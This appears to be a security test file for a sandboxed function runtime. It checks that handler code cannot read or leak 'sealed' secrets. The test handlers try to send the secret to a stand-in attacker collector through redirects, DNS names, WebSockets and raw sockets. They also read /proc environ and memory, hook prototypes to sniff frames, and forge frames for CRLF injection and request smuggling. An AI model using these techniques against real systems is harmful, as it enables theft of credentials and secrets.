// Sealed values: a handler tries to read one by every means that it has, from echoes to frames of its own.

import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { ToHost } from "../../src/sandbox/wire/protocol.ts";
import { startHost } from "../http/sealed_host.ts";
import type { Server } from "../http/server.ts";
import { OWN_WRITER } from "./raw_frames.ts";
import { testWithAndWithoutRoot as test } from "./arena.ts";

/** How much of a value an attacker may know already. */
const KNOWN = [8, 16, -1];

async function seal(server: Server, name: string, value: string, hosts: string[], more: object = {}): Promise<void> {
  const body = { name, value, scope: "global", sealed: true, hosts, ...more };
  const { status, body: answer } = await server.api("POST", "/api/secrets", body);
  assert.equal(status, 201, JSON.stringify(answer));
}

/** Attempts by name. What they return is searched for the values, as is what the hosts of the attacker received. */
const ECHOES: Record<string, string> = {
  body: `return await text(fetch(T.host, { headers: auth }))`,
  header: `return [...(await fetch(T.host + "/?header=authorization", { headers: auth })).headers].join()`,
  everyHeader:
    `const headers = {}; for (const name of ["cookie", "from", "origin", "user-agent", "x-a", "accept", "if-none-match",
      "content-type", "date", "via", "forwarded", "te", "x-http-method-override", "proxy-authorization"]) headers[name] = key;
    return await text(fetch(T.host, { headers }))`,
  basic: `return await text(fetch(T.host, { headers: { authorization: "Basic " + btoa("user:" + key) } }))`,
  basicOtherOffset:
    `return await text(fetch(T.host, { headers: { authorization: "Basic " + btoa("u:" + key + ":x") } }))`,
  userInfo: `return await text(fetch(T.host.replace("//", "//user:" + key + "@")))`,
  errorPage: `return await text(fetch(T.host + "/?status=500&only=authorization", { headers: auth }))`,
  head:
    `return [...(await fetch(T.host + "/?header=authorization", { method: "HEAD", headers: auth })).headers].join()`,
  query: `return await text(fetch(T.host + "/?q=" + open))`,
  path: `return await text(fetch(T.host + "/" + open + "/x"))`,
  json:
    `return await text(fetch(T.host, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ open }) }))`,
  form: `return await text(fetch(T.host, { method: "POST", body: new URLSearchParams({ open }) }))`,
  multipart:
    `const form = new FormData(); form.set("open", open); return await text(fetch(T.host, { method: "POST", body: form }))`,
  twice: `return await text(fetch(T.host, { headers: { a: key + key, b: key + open } }))`,
  gzip: `return await text(fetch(T.host + "/?encoding=gzip&only=authorization", { headers: auth }))`,
  br: `return await text(fetch(T.host + "/?encoding=br&only=authorization", { headers: auth }))`,
  deflate: `return await text(fetch(T.host + "/?encoding=deflate&only=authorization", { headers: auth }))`,
  deflateRaw: `return await text(fetch(T.host + "/?encoding=deflate-raw&only=authorization", { headers: auth }))`,
  unknownEncoding: `return await text(fetch(T.host + "/?encoding=zstd&only=authorization", { headers: auth }))`,
  ownEncoding: `return await text(fetch(T.host, { headers: { ...auth, "accept-encoding": "zstd" } }))`,
  range: `return await text(fetch(T.host, { headers: { ...auth, range: "bytes=0-9" } }))`,
  stream:
    `const out = []; for await (const piece of (await fetch(T.host, { headers: auth })).body) out.push(new TextDecoder().decode(piece));
    return out.join("|")`,
  clone:
    `const answer = await fetch(T.host, { headers: auth }); return [await answer.clone().text(), await answer.text(), answer.url]`,
  transformed: `return await text(fetch(T.host + "/?transform=" + T.transform, { headers: auth }))`,
  requestObject: `const request = new Request(T.host, { headers: auth }); const answer = await fetch(request);
    return [[...request.headers].join(), await answer.text()]`,
};

const ELSEWHERE: Record<string, string> = {
  otherPort: `return await text(fetch(T.collector, { headers: { ...auth, open }, method: "POST", body: open }))`,
  redirect:
    `return await text(fetch(T.host + "/?status=302&location=" + encodeURIComponent(T.collector), { headers: auth }))`,
  redirectWithBody:
    `return await text(fetch(T.host + "/?status=307&location=" + encodeURIComponent(T.collector), { method: "POST", headers: auth, body: open }))`,
  redirectThatHoldsIt:
    `return await text(fetch(T.host + "/?status=302&location=" + encodeURIComponent(T.collector + "/?leak=") + open))`,
  redirectInPieces:
    `return await text(fetch(T.host + "/?status=302&location=" + encodeURIComponent(T.collector + "/?leak=") + open + "%26x%3D" + open))`,
  hostHeader: `return await text(fetch(T.host, { headers: { ...auth, host: new URL(T.collector).host } }))`,
  forwardedHost:
    `return await text(fetch(T.host, { headers: { ...auth, "x-forwarded-host": new URL(T.collector).host, forwarded: "host=" + new URL(T.collector).host } }))`,
  userInfoHost:
    `return await text(fetch(T.collector.replace("//", "//" + new URL(T.host).host + "@"), { headers: auth }))`,
  backslash: `return await text(fetch(T.collector + "\\\\@" + new URL(T.host).host, { headers: auth }))`,
  otherSpelling:
    `const { port } = new URL(T.collector); return (await Promise.allSettled(["0x7f.1", "127.1", "2130706433", "127.0.0.1.", "localhost", "[::ffff:127.0.0.1]"]
    .map((host) => text(fetch("http://" + host + ":" + port, { headers: auth }))))).map(({ value }) => value)`,
  https: `return await text(fetch(T.host.replace("http:", "https:"), { headers: auth }))`,
  asName:
    `return await text(fetch("http://" + open.toLowerCase().replaceAll("_", "-").slice(0, 60) + ".example.com/"))`,
  dns: `return await Deno.resolveDns(open.slice(0, 60) + ".example.com", "A")`,
  webSocket: `const socket = new WebSocket(T.collector.replace("http", "ws") + "/?k=" + open, [key.slice(0, 20)]);
    await new Promise((done) => { socket.onerror = socket.onopen = done }); return "sent"`,
  rawSocket:
    `const { hostname, port } = new URL(T.collector); const socket = await Deno.connect({ hostname, port: +port });
    await socket.write(new TextEncoder().encode("GET / HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: " + key + "\\r\\n\\r\\n")); socket.close(); return "sent"`,
  nodeHttp: `const { default: http } = await import("node:http");
    return await new Promise((done, fail) => http.get(T.host, { headers: auth }, (answer) => { let all = ""; answer.on("data", (d) => all += d).on("end", () => done(all)) }).on("error", fail))`,
};

const MEMORY: Record<string, string> = {
  mem: `return await Deno.readTextFile("/proc/self/mem")`,
  environ: `return await Deno.readTextFile("/proc/self/environ")`,
  otherProcesses:
    `return (await Promise.allSettled([1, 2, Deno.pid - 1, Deno.pid + 1, Deno.ppid].map((pid) => Deno.readTextFile("/proc/" + pid + "/environ")))).map(({ value }) => value)`,
  heap:
    `const { getHeapSnapshot } = await import("node:v8"); await text(fetch(T.host, { headers: auth })); let all = "";
    for await (const piece of getHeapSnapshot()) { all += piece; if (all.length > 5e7) break; } return (all.match(/planted-[\\w-]+/g) ?? []).join()`,
  resources: `return Object.values(Deno[Deno.internal].core.resources())`,
  egressSocket:
    `return (await Promise.allSettled(["/tmp", "/var/cache/crude-functions"].map(async (path) => [...Deno.readDirSync(path)].map(({ name }) => name)))).map(({ value }) => value)`,
  frames:
    `const seen = []; const { decode } = TextDecoder.prototype; const { parse } = JSON; const { enqueue } = ReadableStreamDefaultController.prototype;
    TextDecoder.prototype.decode = function (...args) { const text = decode.apply(this, args); seen.push(text); return text };
    JSON.parse = (text, ...rest) => { seen.push(text); return parse(text, ...rest) };
    ReadableStreamDefaultController.prototype.enqueue = function (piece) { seen.push(piece); return enqueue.call(this, piece) };
    const { slice, set } = Uint8Array.prototype.__proto__; const bytes = [];
    Uint8Array.prototype.__proto__.slice = function (...args) { const copy = slice.apply(this, args); if (copy.length < 1e5) bytes.push(copy); return copy };
    try { await text(fetch(T.host + "/?header=authorization", { headers: auth })); await ctx.getCompleteSecret("KEY"); }
    finally { TextDecoder.prototype.decode = decode; JSON.parse = parse; ReadableStreamDefaultController.prototype.enqueue = enqueue; Uint8Array.prototype.__proto__.slice = slice }
    return [...seen.map(String), ...bytes.map((b) => new TextDecoder().decode(b))].join("\\n").slice(0, 1e6)`,
};

/** Frames past the worker's own code: `send` sends a Fetch for the call `id` and returns what comes back, by echo. */
const FORGED: Record<string, string> = {
  injectedHeader: `return await forged(["x", "1\\r\\nx-injected: 2", "authorization", key])`,
  injectedName: `return await forged(["x: 1\\r\\nx-injected", "2"])`,
  injectedMethod: `return await forged(["authorization", key], "GET / HTTP/1.1\\r\\nx-injected: 1\\r\\n\\r\\nGET")`,
  injectedUrl:
    `return await forged(["authorization", key], "GET", T.host + "/ HTTP/1.1\\r\\nx-injected: 1\\r\\n\\r\\n")`,
  transferEncoding:
    `return await forged(["transfer-encoding", "chunked", "content-length", "5", "authorization", key], "POST", T.host, "0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n")`,
  longerThanAnnounced:
    `return await forged(["authorization", key], "POST", T.host, "abcGET /smuggled HTTP/1.1\\r\\n\\r\\n", 3)`,
  trace: `return await forged(["authorization", key], "TRACE")`,
  connect: `return await forged(["authorization", key], "CONNECT", T.collector)`,
  otherHost: `return await forged(["authorization", key], "GET", T.collector)`,
  userInfo: `return await forged([], "GET", T.host.replace("//", "//u:" + key + "@"))`,
  otherCalls:
    `for (let id = 1; id < 200; id++) own.writer.send(${ToHost.Fetch}, id, JSON.stringify([1e6 + id, "GET", T.collector, ["authorization", T.others], 0, null])); return "sent"`,
};

const code = (attempts: Record<string, string>, targets: object, before = "") =>
  `${before}
const T = ${JSON.stringify(targets)};
const text = async (answer) => { const got = await answer; return [got.status, got.statusText, [...got.headers].join(), await got.text()] };
const attempts = {
${
    Object.entries(attempts).map(([name, body]) => `${name}: async (c, ctx, key, open, auth, forged) => { ${body} }`)
      .join(",\n")
  }
};
export default async (c, ctx) => {
  const [key, open] = [await ctx.getSecret("KEY"), await ctx.getSecret("OPEN")];
  let number = 2 ** 31;
  const forged = async (headers, method = "GET", url = T.host, body = "", length = null) => {
    own.writer.send(${ToHost.Fetch}, ctx.route && T.id, JSON.stringify([++number, method, url, headers, body === "" ? 0 : 2, length]));
    if (body !== "") own.writer.send(${ToHost.FetchBody}, T.id, JSON.stringify([number]), new TextEncoder().encode(body));
    if (body !== "") own.writer.send(${ToHost.FetchBodyEnd}, T.id, JSON.stringify([number]));
    await own.writer.drained();
    await new Promise((done) => setTimeout(done, 50));
    return "sent";
  };
  const results = { key, open };
  for (const [name, attempt] of Object.entries(attempts)) {
    let timer;
    const late = new Promise((done) => timer = setTimeout(() => done("late"), 3_000));
    results[name] = await Promise.race([late, attempt(c, ctx, key, open, { authorization: "Bearer " + key }, forged).catch((error) => String(error))]);
    clearTimeout(timer);
  }
  return Response.json(results);
};`;

test("a handler cannot read a sealed value, whatever it sends and wherever it looks", async (withArena) => {
  await withArena("sealed", async (arena) => {
    const { server } = arena;
    await using host = startHost(false, transforming);
    await using collector = startHost(false);
    const [url, elsewhere] = [host, collector].map(({ port }) => `http://127.0.0.1:${port}`) as [string, string];
    await seal(server, "KEY", arena.plant("sealed-header"), [url]);
    await seal(server, "OPEN", arena.plant("sealed-everywhere"), [url], { in: ["header", "query", "path", "body"] });
    const net = [host, collector].flatMap(({ port }) => ["127.0.0.1", "localhost"].map((name) => `${name}:${port}`))
      .concat("example.com");
    const targets = { host: url, collector: elsewhere, transform: "json", id: 1 };
    const call = async (name: string, attempts: Record<string, string>, before = "", extra: object = {}) => {
      arena.count(Object.keys(attempts).length);
      await arena.deploy(name, code(attempts, { ...targets, ...extra }, before), { fields: { permissions: { net } } });
      const { status, body } = await arena.call(name);
      assert.equal(status, 200, JSON.stringify(body));
      return body as Record<string, unknown>;
    };
    const echoes = await call("echoes", ECHOES);
    // They are attempts at all: the host got the value, and the handler its mask.
    assert.match(JSON.stringify(echoes.body), /\[secret KEY\]/);
    assert.ok(host.received.some(({ headers }) => headers.authorization?.startsWith("Bearer planted-sealed-header")));
    assert.ok(!host.received.some(({ headers }) => "range" in headers || headers["accept-encoding"]?.includes("zstd")));
    for (const transform of ["escaped", "numbers", "hex", "base64", "html", "utf16", "lines"]) {
      const echo = await call(`echo_${transform}`, { transformed: ECHOES.transformed! }, "", { transform });
      assert.match(JSON.stringify(echo.transformed), /\[secret KEY\]/, transform);
    }
    await call("elsewhere", ELSEWHERE);
    for (const [name, attempt] of Object.entries(MEMORY)) {
      arena.count();
      const fields = { permissions: { net } };
      await arena.deploy(`memory_${name}`, code({ [name]: attempt }, targets), { fields });
      // Some of them end their own process.
      await arena.call(`memory_${name}`);
    }
    const before = host.received.length;
    await call("forged", FORGED, OWN_WRITER, { others: echoes.key });
    const smuggled = host.received.slice(before).filter(({ target, headers }) =>
      target.includes("smuggled") || "x-injected" in headers
    );
    if (smuggled.length > 0) arena.gained("smuggling", JSON.stringify(smuggled));

    // The placeholder of another function, and that of an earlier call.
    const foreign = { foreign: `return await text(fetch(T.host, { headers: { "x-foreign": T.old, ...auth } }))` };
    await call("foreign", foreign, "", { old: echoes.key });
    const last = host.last.headers["x-foreign"];
    assert.equal(last, echoes.key, "it went out as it was");

    // Nothing confirms a part of a value that is known already.
    for (const value of [host.received[0]!.headers.authorization!.slice("Bearer ".length)]) {
      for (const length of KNOWN) {
        const known = value.slice(0, length);
        const sent = await call(
          `guess${length + 1}`,
          {
            guess:
              `return (await (await fetch(T.host + "/?only=x-guess", { headers: { ...auth, "x-guess": T.known } })).text())`,
          },
          "",
          { known: Buffer.from(known).toString() },
        );
        if (sent.guess !== known) arena.gained("guess", `${length}: ${JSON.stringify(sent.guess)}`);
      }
    }
    arena.search("the attacker's host", JSON.stringify(collector.received));
  });
});

/** Echoes the authorization in another form, if the query asks for one. */
function transforming(
  { url }: Request,
  { headers }: { headers: Readonly<Record<string, string>> },
): Response | undefined {
  const transform = new URL(url).searchParams.get("transform");
  const value = headers.authorization ?? "";
  const forms: Record<string, () => string | Uint8Array<ArrayBuffer>> = {
    json: () => JSON.stringify({ value: JSON.stringify({ value }) }),
    escaped: () => [...value].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join(""),
    numbers: () => JSON.stringify([...Buffer.from(value)], null, 1),
    hex: () => Buffer.from(value).toString("hex"),
    base64: () => Buffer.from(`x${value}`).toString("base64"),
    html: () => [...value].map((c) => `&#${c.charCodeAt(0)};`).join(""),
    utf16: () => new Uint8Array(Buffer.from(value, "utf16le")),
    lines: () => Buffer.from(value.repeat(3)).toString("base64").replace(/.{76}/g, "$&\n"),
  };
  const form = transform === null ? undefined : forms[transform];
  return form && new Response(form());
}
